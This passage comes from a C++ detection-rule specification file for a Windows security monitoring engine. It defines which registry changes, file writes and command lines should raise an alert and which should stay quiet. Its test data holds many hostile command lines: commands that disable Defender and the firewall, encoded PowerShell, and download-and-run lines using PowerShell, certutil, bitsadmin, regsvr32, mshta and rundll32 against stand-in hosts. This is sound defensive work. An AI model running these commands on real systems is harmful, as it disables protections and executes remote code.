       .quiet_targets = in_both_hives({kCurrent + R"(Policies\Explorer\Run)"})},
      {.id = "security-policy.safer",
       .kinds = kAnyValueChange | kKeyCreated,
       .targets = in_both_hives({R"(Software\Policies\Microsoft\Windows\Safer<<\CodeIdentifiers>>)"}),
       .values = {"<DefaultLevel>"}},
      {.id = "security-policy.policies",
       .kinds = kAnyValueChange,
       .targets = in_both_hives({R"(Software\Policies\Microsoft<<\Windows Defender>>)",
                                 R"(Software\Policies\Microsoft<=\Windows Defender\Scripts>)",
                                 R"(Software\Policies\Microsoft<=\Office\SystemCertificates>)"}),
       .values = {"<DisableAntiSpyware>"},
       .texts = {"1"},
       .quiet_targets = in_both_hives({R"(Software\Policies\Microsoft\WindowsFirewall)",
                                       R"(Software\Policies\Microsoft\WindowsFirewall\StandardProfile)",
                                       R"(Software\Policies\Microsoft\Windows\System\Scripts\Logon)",
                                       R"(Software\Policies\Microsoft\SystemCertificates\Root)"})},
      {.id = "security-policy.lsa",
       .kinds = kSetMovedOrDeleted,
       .targets = {kControl + "Lsa"},
       .values = {"RunAsPPL<Boot>", "LimitBlankPasswordUse", "NoLMHash", "LmCompatibilityLevel",
                  "RestrictAnonymous<SAM>", "EveryoneIncludesAnonymous", "DisableDomainCreds",
                  "DisableRestrictedAdmin<OutboundCreds>", "ForceGuest", "LsaCfgFlags", "AuditBase<Objects>",
                  "CrashOnAuditFail", "FullPrivilegeAuditing", "SCENoApplyLegacyAuditPolicy"},
       .texts = {"0"},
       .quiet_values = {"LsaPid", "ProductType", "Bounds"}},
      {.id = "security-policy.lsa-part",
       .kinds = kAnyValueChange,
       .targets = prefixed(kControl + R"(Lsa\)", {"Audit", "MSV1_0"}, R"(<<\PerUserAuditing\System>>)"),
       .values = {"<NtlmMinClientSec>"}},
      {.id = "security-policy.clear-text-passwords",
       .kinds = kSetOrMoved,
       .targets = {kControl + R"(SecurityProviders\WDigest)"},
       .values = {"UseLogonCredential"},
       .texts = {"1"}},
      {.id = "security-policy.audit",
       .trust_settles = false,
       .kinds = kAuditPolicyChanged,
       .texts = {"%%8448, %%8450", ""}},
      {.id = "security-policy.defender-exclusion",
       .trust_settles = false,
       .kinds = kSetOrMoved,
       .targets = {R"(HKLM\Software\Microsoft\Windows Defender\Exclusions<<\Paths>>)"},
       .values = {R"(<=C:\Users\Public>)"},
       .texts = {"0"},
       .quiet_targets = {R"(HKLM\Software\Microsoft\Windows Defender\Spynet)"}},
  };
}

std::vector<RuleSpecification> firewall() {
  const std::string policy = kServices + R"(SharedAccess\Parameters\FirewallPolicy)";
  const Texts names = {"Remote Desktop - User Mode (TCP-In)", "@{Evil", "@{x}?ms-resource://y} tail"};
  const std::string store_app =
      "@{Microsoft.PPIProjection_10.0.18362.449_neutral_neutral_cw5n1h2txyewy?"
      "ms-resource://Microsoft.PPIProjection/resources/ProductName}";
  const Change by_the_firewall = [](RuleCase& c) {
    c.user = "S-1-5-80-3088073201-1464728630-1879813800-1107566885-823218052";
  };
  return {
      {.id = "firewall.profile",
       .trust_settles = false,
       .kinds = kAnyValueChange,
       .targets = prefixed(policy + "\\", {"DomainProfile", "PublicProfile", "StandardProfile"}, R"(<<\Logging>>)"),
       .values = {"<EnableFirewall>"},
       .texts = {"0"}},
      {.id = "firewall.rules",
       .trust_settles = false,
       .kinds = kAnyValueChange,
       .targets = {policy + R"(\FirewallRules)"},
       .values = {"<{0A}>"},
       .texts = {R"(v2.30|Action=Allow|Active=TRUE|Dir=In|App=C:\evil.exe|)"}},
      {.id = "firewall.other",
       .kinds = kAnyValueChange,
       .targets = {policy + R"(<<\RestrictedServices\AppIso\FirewallRules>>)"},
       .values = {"<{0A}>"},
       .quiet_targets = {kServices + R"(SharedAccess\Epoch)"}},
      {.id = "firewall.policy",
       .kinds = kAnyValueChange,
       .targets = in_both_hives({R"(Software\Policies\Microsoft\WindowsFirewall<<\StandardProfile>>)"}),
       .values = {"<EnableFirewall>"},
       .texts = {"0"}},
      {.id = "firewall.rule-logged-for-other",
       .trust_settles = false,
       .kinds = kFirewallRuleChanged,
       .texts = names,
       .actors = {R"(C:\Windows\System32\wbem\WmiPrvSE.exe)", R"(C:\Windows\System32\svchost.exe)",
                  R"(C:\Windows\System32\services.exe)"},
       .matches = {[](RuleCase& c) { c.user = "S-1-5-18"; }},
       .quiet_texts = {store_app},
       .quiet_actors = {R"(C:\Windows\WinSxS\amd64_servicingstack\TiWorker.exe)", R"(C:\Users\Public\svchost.exe)", ""},
       .quiet = {by_the_firewall}},
      {.id = "firewall.rule-logged",
       .kinds = kFirewallRuleChanged,
       .texts = names,
       .actors = {R"(C:\Users\alice\Downloads\setup.exe)", R"(C:\Windows\System32\netsh.exe)",
                  R"(C:\Windows\System32\dllhost.exe)", R"(C:\Windows\WinSxS\amd64_servicingstack\TiWorker.exe)", ""},
       .matches = {[](RuleCase& c) { c.user = "S-1-5-18"; }},
       .quiet_texts = {store_app},
       .quiet = {by_the_firewall}},
      {.id = "firewall.setting-logged",
       .trust_settles = false,
       .kinds = kFirewallSettingChanged,
       .texts = {"No", ""},
       .quiet = {by_the_firewall}},
  };
}

std::vector<RuleSpecification> system_files() {
  const Texts logon_programs = {"userinit", "winlogon", "LogonUI",  "sethc",         "Utilman",
                                "osk",      "Magnify",  "Narrator", "DisplaySwitch", "AtBroker"};
  const Texts system_folders = {R"(C:\Windows\System32\)", R"(C:\Windows\SysWOW64\)"};
  Texts working_data;
  for (const std::string& folder : system_folders) {
    working_data = working_data + prefixed(folder, {R"(config\systemprofile\x)", R"(GroupPolicy\DataStore\x)",
                                                    R"(LogFiles\WMI\x)", R"(Tasks\x)"});
  }
  return {
      {.id = "system-file.logon-program",
       .kinds = kFileTouched,
       .targets = prefixed(system_folders[0], logon_programs, ".exe") + prefixed(system_folders[1], {"sethc"}, ".exe"),
       .rights = kFileRights,
       .quiet_targets = {R"(C:\Windows \System32\sethc.exe)"}},
      {.id = "system-file.boot-loader",
       .kinds = kFileTouched,
       .targets = prefixed(R"(C:\)",
                           {"bootmgr", "BOOTNXT", "ntldr", "boot.ini", "NTDETECT.COM", "autoexec.bat", "config.sys"}),
       .rights = kFileRights,
       .quiet_targets = {R"(C:\pagefile.sys)", R"(C:\ \bootmgr)"}},
      {.id = "system-file.boot-folder",
       .kinds = kFileTouched,
       .targets = {R"(C:\Boot<<\memtest.exe>>)"},
       .rights = kFileRights,
       .quiet_targets = {R"(C:\Boot \BCD)"}},
      {.id = "system-file.boot-source",
       .kinds = kFileTouched,
       .targets = {R"(C:\Windows\Boot<<\PCAT\bootmgr>>)"},
       .rights = kFileRights,
       .quiet_targets = {R"(C:\Windows \Boot\PCAT\bootmgr)"}},
      {.id = "system-file.efi",
       .kinds = kFileTouched,
       .targets = {R"(<<S:\>>EFI\Microsoft<<\Boot\bootmgfw.efi>>)", R"(<<S:\>>EFI\Boot<<\bootx64.efi>>)"},
       .rights = kFileRights,
       .quiet_targets = {R"(S:\EFI \Microsoft\Boot\bootmgfw.efi)"}},
      {.id = "system-file.executable",
       .kinds = kFileTouched,
       .targets = {R"(C:\Windows\System32<<\wbem>>\<WLBSCTRL>.dll)", R"(C:\Windows\SysWOW64<<\drivers>>\<evil>.sys)",
                   R"(C:\Windows\System32\<=drivers\config\>x.dll)"},
       .rights = kFileRights,
       .matches = {[](RuleCase& c) {
         c.target = c.kind == kFileOpened ? R"(C:\Windows\System32\x.cpl)" : R"(C:\Windows\System32\x.dat)";
         c.executable = true;
       }},
       .quiet_targets = Texts{R"(C:\Windows\System32\perfh009.dat)", R"(C:\Windows\System32\Configuration\x.mof)",
                              R"(C:\Windows\Temp\evil.dll)", R"(C:\Windows \System32\evil.dll)"} +
                        prefixed("", working_data, ".dll")},
      {.id = "system-file.ini",
       .kinds = kFileTouched,
       .targets = {R"(C:\Windows\System32<<\wbem>>\<x>.ini)", R"(C:\Windows\SysWOW64<<\wbem>>\<x>.ini)",
                   R"(C:\Windows\System32<=\drivers\config>\x.ini)"},
       .rights = kFileRights,
       .quiet_targets = Texts{R"(C:\Windows\System32 \x.ini)"} + prefixed("", working_data, ".ini")},
      {.id = "system-file.windows-executable",
       .kinds = kFileTouched,
       .targets = {R"(C:\Windows\<PSEXESVC>.exe)"},
       .rights = kFileRights,
       .matches = {[](RuleCase& c) {
         c.target = c.kind == kFileOpened ? R"(C:\Windows\x.com)" : R"(C:\Windows\x.log)";
         c.executable = true;
       }},
       .quiet_targets = {R"(C:\Windows\WindowsUpdate.log)", R"(C:\Windows\Temp\x.exe)", R"(C:\Windows \x.exe)"}},
      {.id = "system-file.windows-ini",
       .kinds = kFileTouched,
       .targets = {R"(C:\Windows\<win>.ini)"},
       .rights = kFileRights,
       .quiet_targets = {R"(C:\Windows \win.ini)"}},
      {.id = "system-file.screensaver",
       .kinds = kSetOrMoved,
       .targets = {R"(HKCU\Control Panel\Desktop)"},
       .values = {"SCRNSAVE.EXE"},
       .texts = {R"(C:\evil.scr)"},
       .quiet_values = {"Wallpaper", "ScreenSaveActive"},
       .quiet_texts = {""}},
  };
}

std::vector<RuleSpecification> duplicated() {
  const Texts misplaced = {R"(<=C:\Users\Public\>svchost.exe)",
                           R"(<=C:\>bitsadmin.exe)",
                           R"(<=D:\Data\>lsass.exe)",
                           R"(<=\\srv\share\>explorer.exe)",
                           R"(<=C:\Users\alice\>ntdll.dll)",
                           R"(<=C:\Users\alice\Desktop\>calc.exe)",
                           R"(<=C:\Program Files\App\>cryptbase.dll)",
                           R"(<=C:\Windows \System32\winSAT.exe>)",
                           R"(<=C:\Windows \WinSxS\x\evil.dll>)"};
  const Texts genuine = {R"(C:\Windows\System32\svchost.exe)",
                         R"(C:\Windows\SysWOW64\svchost.exe)",
                         R"(C:\Windows\explorer.exe)",
                         R"(C:\Windows\WinSxS\amd64_x\svchost.exe)",
                         R"(C:\Windows\SoftwareDistribution\Download\x\svchost.exe)",
                         R"(C:\Program Files\App\msvcp140.dll)",
                         R"(C:\Program Files\App \x.dll)",
                         "svchost.exe"};
  return {
      {.id = "duplicated.started",
       .kinds = kStart,
       .targets =
           misplaced + Texts{R"(<=C:\Windows\System32\svchost.exe:evil.exe>)", R"(<=D:\Windows\System32\>cmd.exe)",
                             R"(<=C:\Windows\System32\spool\drivers\color\>lsass.exe)",
                             R"(<=C:\Windows\System32\spool\SERVERS\>lsass.exe)"},
       .quiet_targets = genuine + Texts{R"(C:\Program Files\Git\usr\bin\find.exe)"}},
      {.id = "duplicated.created", .kinds = kFileComes, .targets = misplaced, .quiet_targets = genuine},
  };
}

std::vector<RuleSpecification> layered_provider() {
  return {
      {.id = "layered-provider.catalog",
       .kinds = kAnyKeyArrival | kValueDeleted | kKeyDeleted,
       .targets = {kServices + R"(WinSock2\Parameters\Protocol_Catalog9<<\Catalog_Entries\000000000012>>)"},
       .values = {"<PackedCatalogItem>"},
       .quiet_targets = {kServices + R"(WinSock2\Parameters\NameSpace_Catalog5)"}},
  };
}

std::vector<RuleSpecification> system_process() {
  const auto opened = [](const char* id, std::vector<std::uint32_t> rights) {
    return RuleSpecification{.id = id,
                             .kinds = kProcessOpened,
                             .targets = prefixed("<=", kGuardedProcesses, ">"),
                             .rights = std::move(rights),
                             .actors = kOtherActors + kImpostors,
                             .quiet_targets = kOtherProcesses,
                             .quiet_actors = kSystemActors + kRecorders,
                             // Rights to read and to ask are no modification.
                             .quiet = {[](RuleCase& c) { c.access = 0x1410; }, [](RuleCase& c) { c.access = 0x40; }}};
  };
  return {
      {.id = "system-process.thread",
       .kinds = kThreadInjected,
       .targets = prefixed("<=", kGuardedProcesses, ">"),
       .texts = {"RtlUserThreadStart"},
       .actors = kOtherActors + kRecorders,
       .quiet_targets = kOtherProcesses,
       .quiet_actors = kSystemActors},
      opened("system-process.write", {0x8, 0x20}),
      opened("system-process.inject", {0x2, 0x80}),
      opened("system-process.terminate", {0x1}),
      opened("system-process.debug", {0x800, 0x200, 0x40000, 0x80000}),
      {.id = "system-process.terminated",
       .kinds = kProcessTerminated,
       .targets = prefixed("<=", kGuardedProcesses, ">"),
       .actors = kOtherActors + kRecorders,
       .quiet_targets = kOtherProcesses,
       .quiet_actors = kSystemActors},
  };
}

std::vector<RuleSpecification> suspicious() {
  const Texts security_services = {"WinDefend", "WdNisSvc", "Sense",     "SecurityHealthService",
                                   "wscsvc",    "mpssvc",   "BFE",       "EventLog",
                                   "tmlisten",  "ntrtscan", "TMBMServer"};
  const Texts powershells = {R"(<=C:\Windows\System32\WindowsPowerShell\v1.0\>powershell.exe)",
                             R"(<=C:\Program Files\PowerShell\7\>pwsh.exe)"};
  return {
      {.id = "suspicious.copies-itself-from-temp",
       .kinds = kFileComes,
       .targets = {R"(C:\Windows\System32<<\evil>>\<evil>.exe)", R"(C:\Windows\SysWOW64<<\evil>>\<evil>.exe)"},
       .actors = {R"(C:\Users\alice\AppData\Local\Temp\evil.exe)", R"(C:\Windows\Temp\evil.exe)"},
       .matches = {[](RuleCase& c) {
         c.actor = R"(C:\renamed\since.exe)";
         c.facts = kStartedFromTemp;
       }},
       .also = {"system-file.executable"},
       .quiet_targets = {R"(C:\Windows\System32\notes.txt)"},
       .quiet_actors = {R"(C:\Users\alice\Downloads\setup.exe)"},
       .quiet = {[](RuleCase& c) {
         c.actor = R"(C:\Users\alice\Downloads\setup.exe)";
         c.facts = kWroteToSystemFolder;
       }}},
      {.id = "suspicious.starts-its-copy",
       .kinds = kSetOrMoved,
       .targets = in_both_hives(prefixed(kCurrent, {"Run", "RunOnce"})),
       .values = {"<Updater>"},
       .texts = {R"(C:\Windows\System32\evil.exe)"},
       .facts = kStartedFromTemp | kWroteToSystemFolder,
       .also = {"startup.run-key"},
       .quiet = {[](RuleCase& c) { c.facts = kStartedFromTemp; }, [](RuleCase& c) { c.facts = kWroteToSystemFolder; }}},
      {.id = "suspicious.autorun",
       .kinds = kFileComes,
       .targets = {R"(<E:>\autorun.inf)"},
       .quiet_targets = {R"(E:\setup\autorun.inf)"}},
      {.id = "suspicious.autorun-on-share",
       .kinds = kFileComes,
       .targets = {R"(\\<srv>\<share>\autorun.inf)"},
       .quiet_targets = {R"(\\srv\share\setup\autorun.inf)"}},
      {.id = "suspicious.deletes-itself",
       .kinds = kFileDeleted,
       .targets = {R"(<=C:\Users\alice\Downloads\setup.exe>)", R"(<=c:/users/ALICE/downloads/setup.exe>)"},
       .quiet_targets = {R"(C:\Users\alice\Downloads\setup.tmp)"},
       .quiet_actors = {R"(C:\Users\alice\Downloads\other.exe)", ""}},
      {.id = "suspicious.has-itself-deleted",
       .kinds = kStart,
       .targets = Texts{R"(<=C:\Windows\System32\>cmd.exe)"} + powershells,
       .texts = {R"(cmd.exe /c del "C:\Users\alice\Downloads\evil.exe")", "cmd /c ping -n 3 localhost & del evil.exe",
                 "cmd /c erase EVIL.EXE"},
       .creator = R"(C:\Users\alice\Downloads\evil.exe)",
       .matches = {[](RuleCase& c) {
         c.creator = R"(C:\Users\alice\Downloads\winsat.exe)";
         c.text = "cmd.exe /c del winsat.exe";
       }},
       .quiet_texts = {R"(cmd.exe /c C:\Users\alice\Downloads\evil.exe)", "cmd /c del other.exe"},
       .quiet = {[](RuleCase& c) { c.creator = R"(C:\Users\alice\Downloads\other.exe)"; },
                 [](RuleCase& c) { c.creator = ""; },
                 [](RuleCase& c) {
                   c.creator = R"(C:\Windows\System32\cmd.exe)";
                   c.text = "cmd.exe /c \"cmd.exe /c del x\"";
                 },
                 [](RuleCase& c) {
                   c.creator = R"(C:\Windows\System32\winsat.exe)";
                   c.text = "cmd.exe /c del winsat.exe.old";
                 }}},
      {.id = "suspicious.security-service-off",
       .trust_settles = false,
       .kinds = kSetOrMoved,
       .targets = prefixed(kServices, security_services),
       .values = {"Start"},
       .texts = {"4"},
       .quiet_targets = {kServices + "BITS"},
       .quiet_texts = {"2", "3", "14", "40"}},
      {.id = "suspicious.security-service-command",
       .kinds = kStart,
       .targets = {R"(<=C:\Windows\System32\>sc.exe)", R"(<=C:\Windows\System32\>net.exe)",
                   R"(<=C:\Windows\System32\>net1.exe)"},
       .texts = prefixed("sc  stop ", security_services) +
                Texts{R"(net stop "windefend")", "sc delete WinDefend", "sc config WinDefend start= disabled",
                      "sc pause mpssvc", "net stop /y wscsvc"} +
                prefixed(R"(net stop ")",
                         {"Security Center", "Windows Firewall", "Windows Defender Firewall",
                          "Windows Defender Service", "Windows Defender", "Microsoft Defender Antivirus Service",
                          "Windows Security Service", "Windows Defender Antivirus Network Inspection Service",
                          "Windows Defender Advanced Threat Protection Service", "Base Filtering Engine",
                          "Windows Event Log", "OfficeScan NT Listener", "Apex One NT RealTime Scan",
                          "Trend Micro Unauthorized Change Prevention Service"},
                         "\""),
       .quiet_texts = {"sc query mpssvc", "sc stop IKEEXT", "sc start mpssvc", "sc config mpssvc start= auto",
                       R"(net stop "Print Spooler")", R"(net start "Security Center")"}},
      {.id = "suspicious.defender-off",
       .trust_settles = false,
       .kinds = kSetOrMoved,
       .targets = {R"(HKLM\Software\Microsoft\Windows Defender<<\Real-Time Protection>>)"},
       .values = prefixed("Disable", {"AntiSpyware", "AntiVirus", "RealtimeMonitoring", "BehaviorMonitoring",
                                      "OnAccessProtection", "IOAVProtection"}),
       .texts = {"1"},
       .quiet_values = {"DpaDisabled"},
       .quiet_texts = {"0"}},
      {.id = "suspicious.defender-command",
       .kinds = kStart,
       .targets = powershells,
       .texts = {"powershell Set-MpPreference -DisableRealtimeMonitoring $true",
                 R"(powershell Add-MpPreference -ExclusionPath C:\)",
                 R"(powershell -command "Set-MpPreference -EnableControlledFolderAccess Disabled")",
                 "powershell Set-MpPreference -EnableNetworkProtection:0",
                 "powershell Set-MpPreference -PUAProtection disable",
                 "powershell Set-MpPreference -MAPSReporting 'Disabled'",
                 "powershell Set-MpPreference -SubmitSamplesConsent NeverSend",
                 "powershell Set-MpPreference -SubmitSamplesConsent 2",
                 "powershell Set\u2013MpPreference \u2014DisableRealtimeMonitoring $true"},
       .matches = {original_name("PowerShell.EXE", R"(C:\Users\Public\ps.exe)")},
       .quiet_texts = {"powershell Get-MpPreference", "powershell Set-MpPreference -ScanScheduleDay 0",
                       "powershell Set-MpPreference -EnableControlledFolderAccess Enabled",
                       "powershell Set-MpPreference -PUAProtection AuditMode",
                       "powershell Set-MpPreference -SubmitSamplesConsent 1"}},
      {.id = "suspicious.firewall-command",
       .kinds = kStart,
       .targets = {R"(<=C:\Windows\System32\>netsh.exe)"},
       .texts = {"netsh advfirewall set allprofiles state off", "netsh firewall set opmode mode=disable",
                 "netsh firewall set opmode disable", "netsh a s p state off", "netsh adv se allp st of",
                 "netsh f s o d", "netsh fire set op mode = dis profile=ALL",
                 "netsh firewall set opmode profile=ALL mode=disable"},
       .quiet_texts = {"netsh advfirewall show allprofiles", "netsh advfirewall set allprofiles state on",
                       "netsh a sh p state", "netsh add helper state off", "netsh f s o e d",
                       "netsh firewall set opmode mode=enable exceptions=disable",
                       "netsh interface set interface name=x admin=disabled"}},
      {.id = "suspicious.powershell-encoded",
       .kinds = kStart,
       .targets = powershells,
       .texts = {"powershell -noP -sta -w 1 -enc SQBmACgAJABQAFMAVgBFAHIA",
                 "powershell -exec bypass -e SQBuAHYAbwBrAGUALQBXAG0A",
                 "pwsh -EncodedCommand \"SQBuAHYAbwBrAGUALQBXAG0A\"", "powershell /ec SQBuAHYAbwBrAGUALQBXAG0A",
                 "powershell \u2013enc SQBuAHYAbwBrAGUA", "powershell \u2014e SQBuAHYAbwBrAGUA",
                 "powershell \u2015EncodedCommand SQBuAHYAbwBrAGUA", "powershell -enc:SQBuAHYAbwBrAGUA",
                 "powershell -enc YwBhAGwAYwA=", "powershell -enc bABzAA== -nop", "powershell -e 'dwBoAG8A'",
                 "powershell -c [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($x))"},
       .matches = {original_name("PowerShell.EXE", R"(C:\Users\Public\ps.exe)"),
                   original_name("PowerShell.EXE.MUI", R"(C:\Users\Public\ps.exe)")},
       .quiet_texts = {"powershell -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1", "powershell -noprofile",
                       "powershell -e short", "powershell Get-Content a | Out-File b -Encoding utf8",
                       "powershell -File a.ps1 -Environment staging1", "powershell -File a.ps1 \u2013Enable true"}},
      {.id = "suspicious.powershell-download",
       .kinds = kStart,
       .targets = powershells,
       .texts =
           {"powershell IEX (New-Object Net.WebClient).DownloadString('http://x.test/a')",
            "powershell $c.DownloadFile('http://x.test/a','a.exe')", "powershell $c.DownloadData($u)",
            "powershell New-Object System.Net.WebClient", "powershell Invoke-WebRequest http://x.test/a -OutFile a",
            "powershell Invoke-RestMethod http://x.test/a", "powershell iwr http://x.test/a", "powershell irm x.test",
            "powershell Start-BitsTransfer http://x.test/a", "powershell Invoke\u2013WebRequest http://x.test/a",
            "powershell Start\u2015BitsTransfer http://x.test/a", "powershell New-Object -ComObject MSXML2.XMLHTTP"},
       .matches = {original_name("pwsh.dll", R"(C:\Program Files\PowerShell\7\pwsh.exe)")},
       .quiet_texts = {R"(powershell -File C:\scripts\inventory.ps1)", "powershell Get-ChildItem"}},
      {.id = "suspicious.certutil",
       .kinds = kStart,
       .targets = {R"(<=C:\Windows\System32\>certutil.exe)"},
       .texts = {"certutil.exe  -urlcache -f https://x.test/a.yaml a.yaml", "certutil -split -verifyctl ftp://x.test/a",
                 R"(certutil.exe -decode file.txt c:\file.exe)", "certutil /decodehex a b"},
       .matches = {original_name("CertUtil.exe", R"(C:\Users\Public\tcm.tmp)")},
       .quiet_texts = {R"(certutil -addstore -f root C:\cert.cer)", "certutil -encode file.bat file.base64",
                       "certutil -urlcache"}},
      {.id = "suspicious.bitsadmin",
       .kinds = kStart,
       .targets = {R"(<=C:\Windows\System32\>bitsadmin.exe)"},
       .texts = {"bitsadmin  /transfer n https://x.test/a.dll C:\\Users\\Public\\a.dll",
                 "bitsadmin /addfile job https://x.test/a C:\\a", "bitsadmin /addfileset job list",
                 "bitsadmin /SetNotifyCmdLine job C:\\a.exe NULL"},
       .quiet_texts = {"bitsadmin /list", "bitsadmin /create job", "bitsadmin /reset"}},
      {.id = "suspicious.regsvr32",
       .kinds = kStart,
       .targets = {R"(<=C:\Windows\System32\>regsvr32.exe)"},
       .texts = {R"(regsvr32 /s /n /u /i:http://10.10.10.5:8444/launcher.sct vendor.dll)",
                 R"(regsvr32 /s /u /i:C:\atomics\RegSvr32.sct scrobj.dll)", R"(regsvr32 /s /i:\\srv\share\a.sct x.dll)",
                 "regsvr32 /s /i://srv/share/a.sct x.dll"},
       .quiet_texts = {R"(regsvr32 /s C:\Program Files\Vendor\x.dll)", "regsvr32 /s /i:user x.dll"}},
      {.id = "suspicious.mshta",
       .kinds = kStart,
       .targets = {R"(<=C:\Windows\System32\>mshta.exe)"},
       .texts = {"mshta http://x.test/a.hta", "mshta javascript:a=1;close()", "mshta vbscript:Close(1)",
                 "mshta about:x", R"(mshta C:\Users\alice\Downloads\invoice.hta)",
                 R"(mshta C:\Users\alice\AppData\Local\Temp\a.hta)", "mshta C:/Users/alice/Downloads/a.hta",
                 R"(mshta C:\tmp\a.hta)"},
       .quiet_texts = {R"(mshta C:\Program Files\Vendor\setup.hta)"}},
      {.id = "suspicious.rundll32",
       .kinds = kStart,
       .targets = {R"(<=C:\Windows\System32\>rundll32.exe)"},
       .texts = {R"(rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";x)", "rundll32 vbscript:x",
                 R"(rundll32.exe  '\\\\172.16.205.1\\pwn\\test.dll,0')", R"(rundll32 \\srv\share\x.dll,a)",
                 "rundll32 //srv/share/x.dll,a", "rundll32 url.dll,OpenURL http://x.test/"},
       .quiet_texts = {R"(C:\Windows\system32\rundll32.exe Startupscan.dll,SusRunTask)",
                       R"("C:\windows\system32\rundll32.exe" Shell32.dll,Control_RunDLL C:\ProgramData\calc.cpl)"}},
      {.id = "suspicious.script-host",
       .kinds = kStart,
       .targets = {R"(<=C:\Windows\System32\>wscript.exe)", R"(<=C:\Windows\System32\>cscript.exe)"},
       .texts = {R"(wscript C:\Users\alice\AppData\Local\Temp\invoice.js)",
                 R"(wscript "C:\Users\alice\Downloads\a.vbs")", R"(cscript C:\tmp\a.js)",
                 "cscript pubprn.vbs localhost script:https://x.test/a", "wscript C:/Users/alice/Downloads/a.vbs",
                 R"(wscript \\srv\s\a.vbs)", R"(cscript //nologo "\\srv.corp.test\my share\a.vbs")",
                 "wscript //srv/s/a.vbs", R"(wscript /\srv\s\a.vbs)", R"(cscript \\?\UNC\srv\s\a.vbs)"},
       .quiet_texts = {R"(C:\Windows\system32\cscript.exe C:\Windows\system32\gatherNetworkInfo.vbs)",
                       R"("C:\windows\system32\cscript.exe" /nologo "MonitorKnowledgeDiscovery.vbs")",
                       R"(cscript //nologo C:\scripts\a.vbs)", R"(cscript //E:jscript //T:10 C:\scripts\a.vbs)",
                       R"(wscript \\?\C:\scripts\a.vbs)"}},
      {.id = "suspicious.wmic-stylesheet",
       .kinds = kStart,
       .targets = {R"(<=C:\Windows\System32\wbem\>WMIC.exe)"},
       .texts = {R"(wmic process list /FORMAT:"https://x.test/a.xsl")", R"(wmic os get /format:\\srv\share\a.xsl)",
                 "wmic os get /format://srv/share/a.xsl"},
       .quiet_texts = {"wmic process get caption /format:csv", "wmic qfe list"}},
  };
}

void append(std::vector<RuleSpecification>& all, v1::MonitoredEvent event, std::vector<RuleSpecification> rules) {
  for (RuleSpecification& rule : rules) {
    if (rule.event == v1::MONITORED_EVENT_UNSPECIFIED) rule.event = event;
    all.push_back(std::move(rule));
  }
}

}  // namespace

const std::vector<RuleSpecification>& rule_specifications() {
  static const std::vector<RuleSpecification> all = [] {
    std::vector<RuleSpecification> rules;
    append(rules, v1::NEW_STARTUP_PROGRAM, startup());
    append(rules, v1::HOSTS_FILE_MODIFICATION, hosts());
    append(rules, v1::PROGRAM_LIBRARY_INJECTION, library_injection());
    append(rules, v1::INTERNET_EXPLORER_SETTING_MODIFICATION, internet_explorer());
    append(rules, v1::SHELL_MODIFICATION, shell());
    append(rules, v1::NEW_SERVICE, services());
    append(rules, v1::SECURITY_POLICY_MODIFICATION, security_policy());
    append(rules, v1::FIREWALL_POLICY_MODIFICATION, firewall());
    append(rules, v1::SYSTEM_FILE_MODIFICATION, system_files());
    append(rules, v1::DUPLICATED_SYSTEM_FILE, duplicated());
    append(rules, v1::LAYERED_SERVICE_PROVIDER, layered_provider());
    append(rules, v1::SYSTEM_PROCESS_MODIFICATION, system_process());
    append(rules, v1::SUSPICIOUS_BEHAVIOR, suspicious());
    return rules;
  }();
  return all;
}

}  // namespace holdfast::engine
